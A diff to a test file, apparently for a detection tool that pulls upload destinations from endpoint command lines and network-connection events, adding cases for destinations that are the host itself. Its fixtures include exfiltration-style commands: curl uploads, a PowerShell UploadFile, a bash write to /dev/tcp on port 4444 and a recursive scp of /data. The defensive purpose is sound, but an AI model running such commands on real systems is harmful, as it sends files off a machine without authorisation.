@@ -47,6 +47,7 @@ def test_an_account_is_a_domains_a_hosts_or_nobodys(host, user, account, domain_
     [
         ("curl -T a.zip https://files.example/in?x=1", "https://files.example/in?x=1", "files.example", None),
         ("powershell \"$c.UploadFile('http://127.0.0.1:8443/u', $_)\"", "http://127.0.0.1:8443/u", None, None),
+        ("curl -T a http://ws1.corp.local/in", "http://ws1.corp.local/in", None, None),
         ("bash -c 'cat x >/dev/tcp/203.0.113.9/4444'", "203.0.113.9:4444", None, "203.0.113.9"),
         ("scp -r /data anna@files.example:/in", "anna@files.example:/in", "files.example", None),
         ("while true; do curl -T a http://files.example/in; done", "http://files.example/in", "files.example", None),
@@ -124,6 +125,30 @@ def test_the_destination_is_read_from_a_connection(fields, destination, ip):
     found = facts(with_event(make("a", CommandLine="7z a x.7z C:\\Users"), "network_connection", **fields))
     assert (found.destination, found.destination_ip, found.connected) == (destination, ip, True)
     assert found.program == "curl.exe"
+
+
+@pytest.mark.parametrize(
+    ("command", "fields", "here", "port"),
+    [
+        ("curl -T a http://127.0.0.1:8080/in", {}, True, "8080"),
+        ("curl -T a 'http://[::1]:9090/in'", {}, True, "9090"),
+        ("curl -T a http://localhost/in", {}, True, None),
+        ("7z a x.7z", {"DestinationIp": "127.0.0.1", "DestinationPort": 8443}, True, "8443"),
+        ("7z a x.7z", {"DestinationIp": "::1", "DestinationPort": 8443, "DestinationHostname": "WS1"}, True, "8443"),
+        ("curl -T a http://127.0.0.1:8080/in", {"DestinationIp": "203.0.113.9"}, False, None),
+        ("curl -T a http://files.example:8080/in", {}, False, None),
+        ("7z a x.7z", {}, False, None),
+    ],
+)
+def test_a_destination_may_be_the_host_itself(command, fields, here, port):
+    found = facts(with_event(make("a", CommandLine=command, Image=""), "network_connection", **fields))
+    assert (found.here, found.port) == (here, port)
+
+
+def test_a_sensors_name_for_the_hosts_own_address_is_no_other_host():
+    named = {"DestinationIp": "127.0.0.1", "DestinationHostname": "WS1.corp.local"}
+    found = facts(with_event(make("a", host="WS1", CommandLine="7z a x.7z"), "network_connection", **named))
+    assert (found.destination_name, found.destinations[0]) == (None, "WS1.corp.local (127.0.0.1)")
 
 
 @pytest.mark.parametrize(
